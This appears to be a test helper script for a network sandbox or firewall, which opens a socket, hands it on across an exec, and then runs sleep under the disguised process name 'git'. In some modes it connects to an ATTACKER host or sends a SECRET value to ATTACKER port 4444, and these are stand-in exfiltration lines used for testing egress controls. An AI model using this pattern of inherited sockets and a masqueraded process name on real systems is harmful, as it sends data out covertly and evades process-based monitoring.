"""told WAY FAMILY PORT: sends, and is another program the moment after."""

way, family, port = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
if way == "stream":
    sending = socket.socket(FAMILY[family], socket.SOCK_STREAM)
else:
    sending = socket.socket(FAMILY[family], socket.SOCK_DGRAM)
os.set_inheritable(sending.fileno(), True)
sending.bind((RUN[family], port))
sending.setblocking(False)
if way == "query":
    attempt(sending.sendto, query("allowed.test"), (RESOLVER, 53))
elif way == "stream":
    attempt(sending.connect, (ATTACKER[family], 443))
else:
    attempt(sending.sendto, SECRET, (ATTACKER[family], 4444))
os.execv("/usr/bin/sleep", ["git", "1.5"])
